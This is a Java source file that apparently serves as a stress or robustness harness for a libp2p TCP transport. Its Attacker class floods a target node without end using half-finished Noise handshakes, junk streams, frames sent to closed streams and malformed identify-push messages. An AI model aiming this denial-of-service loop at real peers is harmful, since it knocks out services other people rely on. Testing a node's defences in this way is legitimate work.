package dev.pando.libp2p.transport.tcp;

import static dev.pando.libp2p.Waiting.key;

import dev.pando.libp2p.Multiaddr;
import java.io.IOException;
import java.util.ArrayDeque;
import java.util.concurrent.locks.LockSupport;

/**
 * Attacks the host at the address given, at a fixed rate, until it is killed: each turn of 10 ms one connection that
 * makes the host do the dear half of a handshake and then says nothing, ten streams for nothing, a few frames for
 * streams that are closed, and a malformed push.
 */
public final class Attacker {
    private static final long TURN_NANOS = 10_000_000;
    private static final int STREAMS_A_TURN = 10;
    private static final int FRAMES_A_TURN = 9;
    private static final int SILENT_MAX = 64;

    private Attacker() {}

    public static void main(String[] args) throws IOException {
        var victim = Multiaddr.parse(args[0]);
        var silent = new ArrayDeque<RawPeer>();
        RawPeer inside = null;
        long next = System.nanoTime();
        for (long turn = 0; ; turn++) {
            next += TURN_NANOS;
            LockSupport.parkNanos(next - System.nanoTime());
            try {
                if (inside == null) {
                    inside = RawPeer.secured(victim, key(99));
                }
                for (int i = 0; i < STREAMS_A_TURN; i++) {
                    int stream = inside.open("/nobody/speaks/this");
                    inside.sendSealed(RawPeer.frame(1, 8, stream, 0));
                }
                for (int i = 0; i < FRAMES_A_TURN; i++) {
                    inside.sendSealed(RawPeer.data(0, 1, new byte[100]));
                }
                int push = inside.open("/ipfs/id/push/1.0.0");
                inside.sendSealed(RawPeer.data(4, push, (byte) 3, (byte) 0x12, (byte) 0x7f, (byte) 0));
            } catch (IOException e) {
                inside = null; // thrown out: comes again
            }
            try {
                var peer = new RawPeer(victim);
                peer.send("\u0013/multistream/1.0.0\n\u0007/noise\n".getBytes());
                byte[] hello = new byte[34];
                hello[1] = 32;
                hello[2] = 9;
                peer.send(hello);
                silent.add(peer);
                if (silent.size() > SILENT_MAX) {
                    silent.remove().close();
                }
            } catch (IOException e) {
                continue; // refused, as it should be
            }
        }
    }
}
